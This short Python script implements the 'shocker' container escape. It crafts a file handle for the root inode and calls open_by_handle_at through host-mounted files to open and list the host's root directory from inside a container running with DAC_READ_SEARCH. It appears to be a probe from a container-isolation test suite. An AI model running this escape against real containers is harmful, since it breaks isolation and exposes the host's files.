"""Opening the host's root directory by its handle, past all mounts ("shocker")."""
# weakened: --cap-add DAC_READ_SEARCH --user 0

import ctypes
import os
import struct

from inside import escaped, syscall

# struct file_handle: size, type (inode and generation), then inode 2, which is the root of most file systems
handle = ctypes.create_string_buffer(struct.pack("=IiII", 8, 1, 2, 0))
for mount in ("/etc/hostname", "/etc/resolv.conf", "/etc/hosts", "/"):
    if not os.path.exists(mount):
        continue
    result = syscall((304, 265), os.open(mount, os.O_RDONLY), handle, os.O_RDONLY)
    if result >= 0:
        escaped(f"a directory of the host is open: {os.listdir(result)[:5]}")
    print(f"{mount}: errno {-result}")
